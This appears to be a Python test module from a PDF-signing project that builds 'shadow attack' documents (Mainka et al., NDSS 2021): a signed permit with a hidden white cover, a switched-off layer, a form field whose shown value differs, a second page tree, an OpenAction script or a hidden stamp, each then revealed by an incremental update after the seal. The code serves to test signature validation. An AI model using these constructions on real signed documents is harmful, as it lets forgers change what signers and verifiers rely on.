"""Shadow attacks (Mainka et al., NDSS 2021): content prepared before the seal and brought forth after it."""

import io
import re

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils import generic

from tests.signing.attacks.ground import Ground, seal
from tests.signing.attacks.updates import incremental

_COVER = b"1 1 1 rg 0 0 400 30 re f"


def _prepared(ground: Ground, change) -> bytes:
    """The permit with something in it that nobody sees, sealed in good faith."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(ground.permit)) as document:
        change(document)
        document.save(out)
    return seal(out.getvalue(), ground.key, ground.authority, certify=False)


def _saved(ground: Ground, change) -> bytes:
    return ground.preserved(_prepared(ground, change))


def _cover(document: pikepdf.Pdf) -> None:
    """Hide: a white sheet over the words, as an object of its own."""
    sheet = document.make_stream(_COVER, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 400, 30]))
    page = document.pages[0]
    name = page.add_resource(sheet, Name.XObject)
    page.contents_add(b"q 1 0 0 1 80 300 cm " + bytes(name) + b" Do Q")


def cover_prepared(ground: Ground) -> bytes:
    return _saved(ground, _cover)


def cover_taken_off(ground: Ground) -> bytes:
    """Hide, brought forth: the sheet is made empty."""

    def change(writer) -> None:
        forms = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/XObject"]
        ref = next(forms.raw_get(key) for key in forms if forms[key].data == _COVER)
        writer.objects[(ref.generation, ref.idnum)] = type(ref.get_object())(stream_data=b"")

    return incremental(_saved(ground, _cover), change)


def _layer(document: pikepdf.Pdf) -> None:
    """Replace, by a layer that is off."""
    group = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("x")))
    document.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=Array([group])))
    page = document.pages[0]
    name = page.add_resource(group, Name.Properties)
    page.contents_add(b"/OC " + bytes(name) + b" BDC 0 0 0 rg 80 300 400 25 re f EMC")


def layer_prepared(ground: Ground) -> bytes:
    return _saved(ground, _layer)


def layer_turned_on(ground: Ground) -> bytes:
    def change(writer) -> None:
        layers = writer.root["/OCProperties"]
        del layers["/D"]["/OFF"]
        writer.update_container(layers["/D"])

    return incremental(_saved(ground, _layer), change)


def _form(document: pikepdf.Pdf) -> None:
    """Replace, by a form field whose look differs from its value."""
    look = document.make_stream(b"BT ET", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 20]))
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("price"),
            V=String("1"),
            F=4,
            Rect=Array([80, 300, 280, 320]),
            AP=Dictionary(N=look),
        )
    )
    document.Root.AcroForm = Dictionary(Fields=Array([field]))
    document.pages[0].obj.Annots = Array([field])


def form_prepared(ground: Ground) -> bytes:
    return _saved(ground, _form)


def form_filled(ground: Ground) -> bytes:
    """The value of the field is changed after the seal."""

    def change(writer) -> None:
        form = writer.root["/AcroForm"]["/Fields"]
        field = next(ref for ref in (form.raw_get(n) for n in range(len(form))) if ref.get_object()["/FT"] == "/Tx")
        field.get_object()["/V"] = generic.pdf_string("9")
        writer.mark_update(field)

    return incremental(_saved(ground, _form), change)


def _with_second_page_tree(ground: Ground) -> bytes:
    """Hide and replace: a second page tree of the same number stands in the file, and the table names the first."""
    pdf = ground.permit
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size, number = int(re.search(rb"/Size (\d+)", pdf)[1]), int(re.search(rb"/Pages (\d+) 0 R", pdf)[1])
    page = b"%d 0 obj\n<</Type/Page/MediaBox[0 0 842 595]/Resources<<>>/Parent %d 0 R>>\nendobj\n" % (size, number)
    tree = b"%d 0 obj\n<</Type/Pages/Kids[%d 0 R]/Count 1>>\nendobj\n" % (number, size)
    body = pdf + b"\n"
    table = b"xref\n%d 1\n%010d 00000 n\r\n" % (size, len(body))
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    trailer = re.sub(rb"/Size \d+", b"/Size %d/Prev %d" % (size + 1, start), trailer)
    at = len(body + page + tree)
    body += page + tree + table + trailer + b"startxref\n%d\n%%%%EOF\n" % at
    return ground.preserved(seal(body, ground.key, ground.authority, certify=False))


def pages_prepared(ground: Ground) -> bytes:
    return _with_second_page_tree(ground)


def pages_exchanged(ground: Ground) -> bytes:
    """Brought forth: a table alone is appended that leads the number of the page tree to the hidden one."""
    pdf = _with_second_page_tree(ground)
    hidden = next(
        m.start() for m in re.finditer(rb"\d+ 0 obj\n<</Type/Pages/Kids", pdf) if m.start() > len(ground.permit)
    )
    number = int(re.search(rb"/Pages (\d+) 0 R", pdf)[1])
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    trailer = re.sub(rb"/Prev \d+", b"/Prev %d" % start, trailer)
    table = b"xref\n%d 1\n%010d 00000 n\r\n" % (number, hidden)
    return pdf + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


def object_twice_prepared(ground: Ground) -> bytes:
    """An object that no table names stands among the covered bytes."""
    end = ground.permit.rindex(b"\nxref")
    start = int(re.findall(rb"startxref\s+(\d+)", ground.permit)[-1])
    extra = b"\n9999 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj"
    pdf = ground.permit[:end] + extra + ground.permit[end:]
    pdf = pdf.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start + len(extra)))
    return ground.preserved(seal(pdf, ground.key, ground.authority, certify=False))


def script_prepared(ground: Ground) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("this.getField('price').value = 9"))

    return _saved(ground, change)


def annotation_prepared(ground: Ground) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        look = document.make_stream(_COVER, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 400, 30]))
        note = Dictionary(Type=Name.Annot, Subtype=Name.Stamp, F=2, Rect=Array([80, 300, 480, 330]))
        note.AP = Dictionary(N=look)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return _saved(ground, change)
